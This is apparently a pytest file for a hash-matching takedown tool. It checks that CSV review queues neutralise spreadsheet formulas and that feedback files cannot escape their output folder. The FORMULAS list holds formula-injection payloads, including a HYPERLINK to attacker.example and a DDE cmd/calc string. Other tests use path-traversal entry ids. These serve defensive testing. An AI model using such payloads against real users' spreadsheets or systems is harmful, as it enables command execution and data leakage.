"""The commands against what a user or a feed can hand them: formulas in registry metadata (the
CSV queue must not run them), entry ids that look like paths (feedback files stay in --out),
report files in missing folders or named by a folder, help on stdout, and the console script's
exit after its one line."""
import csv
import os
import shutil
import subprocess
import sys

from pipelines import cli, feedback, scan
from pipelines.scan import SAMPLE
from tests.conftest import REPO, write
from tests.test_feed_hostile import reviewed_output

FORMULAS = ['=HYPERLINK("http://attacker.example/?x","open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_the_csv_queue_neutralises_formulas_and_the_folders_are_made(tmp_path, capsys):
    media, registry, output = tmp_path / "media", tmp_path / "registry", tmp_path / "out"
    shutil.copytree(os.path.join(SAMPLE, "media"), media)
    (version,) = os.listdir(os.path.join(SAMPLE, "registry"))
    lines = open(os.path.join(SAMPLE, "registry", version, "hashes.csv")).read().splitlines()
    hostile = [lines[0]] + [",".join(line.split(",")[:4] + ['"' + FORMULAS[i % 4].replace('"', '""') + '"'] +
                                     line.split(",")[5:]) for i, line in enumerate(lines[1:])]
    write(str(registry / version / "hashes.csv"), ("\n".join(hostile) + "\n").encode())
    write(str(registry / version / "_SUCCESS"), b"")
    assert scan.main([f"--media={media}", f"--registry={registry}", f"--output={output}"]) == 0
    queue_csv = tmp_path / "not" / "yet" / "queue.csv"
    page = tmp_path / "pages" / "review.html"
    capsys.readouterr()
    assert cli.main(["report", str(output), f"--csv={queue_csv}", f"--html={page}"]) == 0
    rows = list(csv.DictReader(open(queue_csv, newline="")))
    cells = {r["classification"] for r in rows}
    assert cells and cells <= {"'" + f for f in FORMULAS}, cells
    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r if r[k])
    assert "=HYPERLINK(&quot;http://attacker.example/?x&quot;,&quot;open&quot;)" in page.read_text()
    capsys.readouterr()
    assert cli.main(["report", str(output), f"--html={tmp_path}"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a folder" in err


def test_feedback_files_never_leave_out_whatever_the_entry_id(tmp_path, capsys):
    outside = tmp_path / "outside"
    ids = ["ncmec:../../../../" + str(outside).lstrip("/") + "/E1", "ncmec:7-..", "ncmec:7-a/b\x00c",
           "ncmec:7-" + "x" * 400, "ncmec:7-plain", "TID-0001", "stopncii:" + "ab" * 32]
    output = reviewed_output(tmp_path, [(i, "pdq", "00" * 32, "confirmed") for i in ids])
    out = tmp_path / "fb"
    assert feedback.main([str(output), "--to=ncmec", f"--out={out}"]) == 0
    err = capsys.readouterr().err
    assert not outside.exists()
    written = [os.path.join(d, f) for d, _, files in os.walk(out) for f in files]
    assert len(written) == 5 and all(os.path.dirname(p) == str(out / "ncmec") for p in written)
    assert "7-plain-PDQ.xml" in os.listdir(out / "ncmec")
    assert "5 ncmec feedback item(s) written" in err
    assert "2 verdict(s) left out: their entry ids are not ncmec:MEMBER-ENTRY" in err


def test_help_goes_to_stdout_under_the_commands_own_name():
    env = dict(os.environ, PYTHONPATH=REPO)
    for argv, name in ((["--help"], "usage: takedown-scan COMMAND"), (["scan", "--help"], "usage: takedown-scan scan"),
                       (["rematch", "--help"], "usage: takedown-scan rematch")):
        done = subprocess.run([sys.executable, "-m", "pipelines.cli", *argv], capture_output=True, text=True,
                              env=env, cwd=REPO, timeout=120)
        assert done.returncode == 0 and done.stdout.startswith(name), (argv, done.stdout[:200], done.stderr[-500:])


def test_the_console_script_ends_with_its_one_line(tmp_path):
    """Native threads left by libraries must not abort the exit (it did: exit 134 after the message)."""
    output = reviewed_output(tmp_path, [("TID-0001", "pdq", "00" * 32, "confirmed")])
    env = dict(os.environ, PYTHONPATH=REPO)
    for _ in range(3):
        done = subprocess.run([sys.executable, "-m", "pipelines.cli", "review", str(output), "--match=nope",
                               "--verdict=confirmed"], capture_output=True, text=True, env=env, cwd=REPO, timeout=120)
        assert done.returncode == 2 and done.stderr.count("\n") == 1 and "holds a match 'nope'" in done.stderr, done.stderr
